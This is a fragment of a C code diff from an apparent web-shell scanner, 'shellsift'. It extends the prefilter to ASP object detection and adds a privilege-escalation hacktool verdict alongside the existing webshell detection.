+  int asp = filetype && (strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "ASP") == 0);
+  int controls = asp && lang_aspx_controls(c, buf, len);
+  int objects = asp && lang_asp_objects(c, buf, len);
   if (controls) c->caps.request = 1;
   int cfml = filetype && strcmp(filetype, "CFM") == 0; /* rare enough to read whole */
 #ifdef SS_LANG_TRACE
   int pf = 1; /* the trace build analyses every file: what would the prefilter lose? */
+  (void)objects;
 #else
-  int pf = lang_wanted(filetype) && (controls || cfml || lang_prefilter(buf, len, strcmp(filetype, "PHP") == 0));
+  int pf = lang_wanted(filetype) && (controls || objects || cfml || lang_prefilter(buf, len, strcmp(filetype, "PHP") == 0));
 #endif
   if (lang_wanted(filetype) && pf) {
     int php = strcmp(filetype, "PHP") == 0;
@@ -1878,6 +2096,9 @@ void lang_analyze(lang_ctx *c, const unsigned char *buf, size_t len, const char 
   unsigned kit_line;
   int kit_score = lang_caps_verdict(&c->caps, kit, sizeof kit, &kit_line);
   if (kit_score) lang_add_detection(c, "shellsift.lang.kit", "webshell", kit_score, kit_line, "%s", kit);
+  int tech_score = lang_technique_verdict(c, kit, sizeof kit, &kit_line);
+  if (tech_score)
+    lang_add_detection(c, "shellsift.lang.privilege-escalation", "hacktool", tech_score, kit_line, "%s", kit);
   if (budget.exhausted) {
     out->limited = 1;
     snprintf(out->limit_why, sizeof out->limit_why, "%s", budget.why ? budget.why : "limit");
